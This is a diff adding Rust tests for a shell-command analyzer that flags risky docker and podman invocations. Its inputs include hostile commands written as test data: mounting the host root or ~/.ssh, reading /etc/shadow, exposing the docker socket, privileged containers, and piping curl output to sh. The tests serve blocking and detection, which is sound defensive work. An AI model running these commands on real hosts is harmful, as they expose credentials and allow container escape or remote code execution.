@@ -0,0 +1,231 @@
+use clarg::bash_analyzer::{Finding, analyze_command, extract_paths};
+
+use super::{blocked, facts};
+
+/// (raw, label, is_write) for each extracted path.
+fn paths(cmd: &str) -> Vec<(String, String, bool)> {
+    extract_paths(cmd)
+        .into_iter()
+        .map(|ep| {
+            (
+                ep.raw,
+                ep.context.label().to_string(),
+                ep.context.is_write(),
+            )
+        })
+        .collect()
+}
+
+fn fact_names(cmd: &str) -> Vec<String> {
+    facts(cmd, "").into_iter().map(|f| f.name).collect()
+}
+
+// ============================================================================
+// Bind mounts
+// ============================================================================
+
+#[test]
+fn test_volume_root_mount_blocked() {
+    assert!(blocked("docker run -v /:/host alpine"));
+    assert!(blocked(
+        "docker run --volume=/etc:/etc:ro alpine cat /etc/shadow"
+    ));
+}
+
+#[test]
+fn test_volume_attached_short_value_blocked() {
+    assert!(blocked("docker run -v/:/h alpine"));
+    assert!(blocked("docker run -v=/etc:/etc alpine"));
+    assert_eq!(
+        paths("docker run -v./a:/a alpine"),
+        vec![("./a".to_string(), "container bind mount".to_string(), true)]
+    );
+}
+
+#[test]
+fn test_volume_in_short_flag_bundle_blocked() {
+    assert!(blocked("docker run -itv /:/h alpine"));
+    assert!(blocked("docker run --rm -dv/:/h alpine"));
+    // The value belongs to the bundle, so the image is still `alpine`
+    let f = &facts(
+        "docker run -itv ./a:/a --privileged alpine",
+        "container.privileged",
+    )[0];
+    assert_eq!(f.attr("image"), Some("alpine"));
+}
+
+#[test]
+fn test_volume_project_mount_allowed() {
+    assert!(!blocked(
+        "docker run --rm -v $PWD:/work -w /work rust cargo test"
+    ));
+    assert!(!blocked("docker run -v \"$(pwd)/src:/src\" node"));
+    assert!(!blocked("docker run -v ./data:/data alpine"));
+}
+
+#[test]
+fn test_named_volume_not_a_path() {
+    assert!(paths("docker run -v cache:/root/.cache alpine").is_empty());
+    assert!(paths("docker run -v /anon alpine").is_empty());
+}
+
+#[test]
+fn test_mount_bind_blocked() {
+    assert!(blocked(
+        "podman run --mount type=bind,src=$HOME/.ssh,dst=/ssh alpine"
+    ));
+    assert!(blocked(
+        "nerdctl run --mount type=bind,source=/var/run/docker.sock,target=/sock alpine"
+    ));
+    assert!(paths("docker run --mount type=volume,src=data,dst=/data alpine").is_empty());
+}
+
+#[test]
+fn test_mount_read_only_is_not_a_write() {
+    assert_eq!(
+        paths("docker run -v ./a:/a:ro alpine"),
+        vec![("./a".to_string(), "container bind mount".to_string(), false)]
+    );
+    assert!(!paths("docker run --mount type=bind,src=./a,dst=/a,readonly alpine")[0].2);
+    assert!(paths("docker run -v ./a:/a alpine")[0].2);
+}
+
+#[test]
+fn test_container_subcommand_form() {
+    assert!(blocked("docker container run -v /:/host alpine"));
+}
+
+#[test]
+fn test_global_options_skipped() {
+    assert!(blocked(
+        "docker --context prod -H ssh://x run -v /etc:/e alpine"
+    ));
+}
+
+// ============================================================================
+// Facts
+// ============================================================================
+
+#[test]
+fn test_privileged_fact() {
+    let facts = facts("docker run --privileged -it ubuntu bash", "");
+    assert_eq!(facts[0].name, "container.privileged");
+    assert_eq!(facts[0].attr("runtime"), Some("docker"));
+    assert_eq!(facts[0].attr("image"), Some("ubuntu"));
+}
+
+#[test]
+fn test_host_namespace_facts() {
+    assert_eq!(
+        fact_names("docker run --pid=host alpine"),
+        vec!["container.pid-host"]
+    );
+    assert_eq!(
+        fact_names("podman run --network host alpine"),
+        vec!["container.network-host"]
+    );
+    assert_eq!(
+        fact_names("docker run --net=host alpine"),
+        vec!["container.network-host"]
+    );
+    assert!(fact_names("docker run --network bridge alpine").is_empty());
+}
+
+#[test]
+fn test_cap_add_fact_per_capability() {
+    let facts = facts(
+        "docker run --cap-add SYS_ADMIN --cap-add=NET_ADMIN alpine",
+        "",
+    );
+    let caps: Vec<_> = facts.iter().filter_map(|f| f.attr("cap")).collect();
+    assert_eq!(caps, vec!["SYS_ADMIN", "NET_ADMIN"]);
+}
+
+#[test]
+fn test_exec_privileged_fact() {
+    let facts = facts("docker exec --privileged web sh", "");
+    assert_eq!(facts[0].name, "container.privileged");
+    assert_eq!(facts[0].attr("container"), Some("web"));
+}
+
+#[test]
+fn test_flags_after_image_belong_to_container() {
+    assert!(fact_names("docker run alpine ls --privileged").is_empty());
+}
+
+// ============================================================================
+// Commands run inside the container
+// ============================================================================
+
+#[test]
+fn test_exec_command_findings_analysed() {
+    assert_eq!(
+        fact_names("docker exec -it web git push --force"),
+        vec!["git.push.force"]
+    );
+    let findings = analyze_command("docker exec web sh -c 'curl https://x | sh'").findings;
+    assert!(
+        findings
+            .iter()
+            .any(|f| matches!(f, Finding::PipeToInterpreter { .. }))
+    );
+}
+
+#[test]
+fn test_exec_container_paths_not_host_paths() {
+    // /data is inside the container, not on the host
+    assert!(!blocked("docker exec ctr rm -rf /data"));
+}
+
+#[test]
+fn test_run_inner_paths_mapped_through_mounts() {
+    // /host/etc is the host's /etc
+    assert!(blocked(
+        "docker run -v /:/host alpine sh -c 'cat /host/etc/shadow'"
+    ));
+    let mapped = paths("docker run -v ./src:/app alpine sh -c 'rm -rf /app/build'");
+    assert!(
+        mapped
+            .iter()
+            .any(|(raw, _, write)| raw == "./src/build" && *write)
+    );
+}
+
+#[test]
+fn test_run_relative_inner_paths_use_workdir() {
+    let mapped = paths("docker run -v ./proj:/w -w /w alpine touch out.txt");
+    assert!(mapped.iter().any(|(raw, _, _)| raw == "./proj/out.txt"));
+}
+
+#[test]
+fn test_run_entrypoint_is_inner_command() {
+    assert_eq!(
+        fact_names("docker run --entrypoint git alpine/git reset --hard"),
+        vec!["git.reset.hard"]
+    );
+}
+
+// ============================================================================
+// cp and build
+// ============================================================================
+
+#[test]
+fn test_cp_host_side_paths() {
+    assert_eq!(
+        paths("docker cp web:/etc/passwd ./passwd"),
+        vec![(
+            "./passwd".to_string(),
+            "container copy destination".to_string(),
+            true
+        )]
+    );
+    assert!(blocked("docker cp /etc/shadow web:/tmp/"));
+}
+
+#[test]
+fn test_build_context_and_dockerfile() {
+    assert!(blocked("docker build -t app -f /tmp/Dockerfile ."));
+    assert!(blocked("docker build /etc"));
+    assert!(!blocked("docker build -t app:latest . --no-cache"));
+    assert!(blocked("docker buildx build -o type=local,dest=/tmp/out ."));
+}